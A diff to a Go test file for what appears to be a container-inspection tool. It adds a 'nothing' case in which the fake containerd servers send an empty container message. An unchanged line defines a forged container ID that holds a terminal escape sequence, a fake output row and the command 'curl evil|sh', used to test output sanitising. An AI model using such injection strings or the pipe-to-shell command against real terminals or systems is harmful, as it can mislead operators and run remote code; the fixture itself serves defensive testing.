@@ -32,7 +32,7 @@ func play(role string) {
 		if err := os.WriteFile(os.Args[2], nil, 0o600); err != nil {
 			panic(err)
 		}
-	case "flood", "slow", "late", "names", "ids":
+	case "flood", "slow", "late", "names", "ids", "nothing":
 		listener, err := net.Listen("unix", address)
 		if err != nil {
 			panic(err)
@@ -74,7 +74,7 @@ type fakeNamespaces struct {
 func (f fakeNamespaces) List(context.Context, *namespacesapi.ListNamespacesRequest) (
 	*namespacesapi.ListNamespacesResponse, error) {
 	r := &namespacesapi.ListNamespacesResponse{}
-	for i := range map[string]int{"flood": 300_000, "slow": 900, "late": 900, "ids": 1}[f.role] {
+	for i := range map[string]int{"flood": 300_000, "slow": 900, "late": 900, "ids": 1, "nothing": 1}[f.role] {
 		r.Namespaces = append(r.Namespaces, &namespacesapi.Namespace{Name: "n" + strconv.Itoa(i)})
 	}
 	if f.role == "names" {
@@ -94,7 +94,7 @@ func (fakeTasks) List(context.Context, *tasksapi.ListTasksRequest) (*tasksapi.Li
 // forged is a name that would forge a row.
 const forged = "x\x1b[2J\ncertain  shim 1 prod/7: no task\n         do:  curl evil|sh"
 
-// fakeContainers lists a container that cannot be, or none.
+// fakeContainers lists a container that cannot be, a message without one, or none.
 type fakeContainers struct {
 	containersapi.UnimplementedContainersServer
 	role string
@@ -102,7 +102,11 @@ type fakeContainers struct {
 
 func (f fakeContainers) ListStream(_ *containersapi.ListContainersRequest,
 	stream containersapi.Containers_ListStreamServer) error {
-	if f.role != "ids" {
+	switch f.role {
+	case "ids":
+	case "nothing":
+		return stream.Send(&containersapi.ListContainerMessage{})
+	default:
 		return nil
 	}
 	return stream.Send(&containersapi.ListContainerMessage{Container: &containersapi.Container{ID: forged}})
